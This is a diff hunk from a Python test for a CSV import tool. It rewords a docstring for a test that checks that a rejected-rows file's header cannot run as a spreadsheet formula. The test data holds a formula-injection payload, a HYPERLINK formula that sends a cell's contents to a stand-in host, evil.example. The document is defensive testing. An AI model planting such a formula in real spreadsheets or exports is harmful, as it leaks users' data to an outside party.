@@ -332,7 +332,7 @@ def test_skipping_invalid_rows_commits_the_valid_ones_and_keeps_the_rejected_one
 
 
 def test_the_rejected_rows_header_cannot_run_as_a_formula_either(admin_user, tmp_path):
-    """An unknown column is ignored on the way in, but rejected.csv gives the file's header back, to open in a spreadsheet."""
+    """An unknown column is ignored on the way in, but rejected.csv, opened in a spreadsheet, gives the header back."""
     formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
     text = csv_text(row("Bad one.", status="maybe"), columns=["claim", "speaker", "status", formula])
     job = run_import(tmp_path, text, admin_user, mode=ImportMode.SKIP_INVALID)
